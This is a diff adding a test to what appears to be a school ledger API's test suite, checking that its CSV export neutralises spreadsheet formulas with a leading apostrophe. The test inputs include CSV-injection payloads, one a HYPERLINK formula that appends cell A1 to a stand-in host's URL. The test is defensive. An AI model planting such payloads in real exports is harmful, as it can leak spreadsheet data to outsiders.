@@ -287,6 +287,29 @@ def test_csv_export(app, client):
     assert rows[-1][7] == "760,75"
 
 
+HOSTILE = ['=HYPERLINK("http://exemple.invalid/?"&A1;"Sortie")', "+1+1", "@SUM(1)", "-2+3"]
+
+
+def test_csv_export_is_formula_safe_and_amounts_stay_numbers(app, client):
+    """A school's label, cheque number or voucher reaches staff's Excel: each one that a
+    spreadsheet would evaluate starts with ' (shared/csv_export.py); the amounts the export
+    writes stay numbers, a negative balance included."""
+    for n, text in enumerate(HOSTILE):
+        response = client.post(f"{BOOK}/entries", headers=SCHOOL, json=entry(
+            label=text, cheque_number=text[:20], voucher=text[:30], amount=f"{n + 1}.50",
+            allocations=[{"category": "62810008", "amount": f"{n + 1}.50"}]))
+        assert response.status_code == 201, response.json
+    response = client.get(f"{BOOK}/export.csv", headers=STAFF)
+    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
+    written = rows[2:-1]
+    assert [row[2] for row in written] == ["'" + text for text in HOSTILE]
+    assert [row[4] for row in written] == ["'" + text[:20] for text in HOSTILE]
+    assert [row[5] for row in written] == ["'" + text[:30] for text in HOSTILE]
+    assert [row[6] for row in written] == ["1,50", "2,50", "3,50", "4,50"]  # bank expense
+    assert [row[10] for row in written] == ["1,50", "2,50", "3,50", "4,50"]  # 62810008
+    assert rows[-1][2] == "Solde" and rows[-1][7] == "-12,00"  # no opening balance: a negative number
+
+
 def test_health_and_openapi(client):
     assert client.get("/api/ledger/health").json["status"] == "ok"
     spec = client.get("/api/ledger/openapi.json").json
